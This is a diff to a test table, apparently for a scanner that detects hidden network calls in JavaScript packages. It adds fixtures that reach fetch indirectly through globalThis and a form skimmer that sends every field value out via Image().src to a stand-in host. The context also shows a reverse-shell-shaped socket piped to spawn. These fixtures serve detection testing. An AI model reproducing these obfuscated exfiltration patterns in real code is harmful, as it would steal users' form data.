@@ -317,6 +317,25 @@ const CASES: readonly {
     says: ['call fetch(https://a.invalid/, {method: POST, body: ?})'],
   },
   {
+    when: 'a table of data names the global object’s members to steps that are handed that object',
+    files: {
+      'index.js': `const ops = { root: () => globalThis, get: (o, k) => (o == null ? undefined : o[k]), apply: (fn, ...args) => fn(...args) }; const regs = {}; for (const [name, out, ...args] of require('./steps.json')) regs[out] = ops[name](...args.map(one => (one[0] === '$' ? regs[one.slice(1)] : one)));`,
+      'steps.json': [
+        ['root', 'g'],
+        ['get', 'f', '$g', 'fetch'],
+        ['apply', 'r', '$f', 'https://a.invalid/'],
+      ],
+    },
+    says: ['import fetch(https://a.invalid/)'],
+  },
+  {
+    when: 'something is kept under a name that is not known, and found by going through all',
+    files: {
+      'index.js': `exports.watch = form => { const all = Object.fromEntries([...form.elements].map(one => [one.name, one.value])); all[form.id] = form.name; for (const one of Object.values(all)) { const at = new URL({ [Symbol.toPrimitive]: () => 'https://a.invalid/b' }); at.searchParams.set('d', one); new Image().src = at; } };`,
+    },
+    says: ['call Image().src(https://a.invalid/b?d=*)'],
+  },
+  {
     when: 'what something is made with asks for its name',
     files: {
       'index.js': `const net = require('net'), { spawn } = require('child_process'); const link = done => { const socket = net.connect(1, '192.0.2.1', () => done(socket)); }; link(socket => socket.pipe(spawn('INERT').stdin));`,
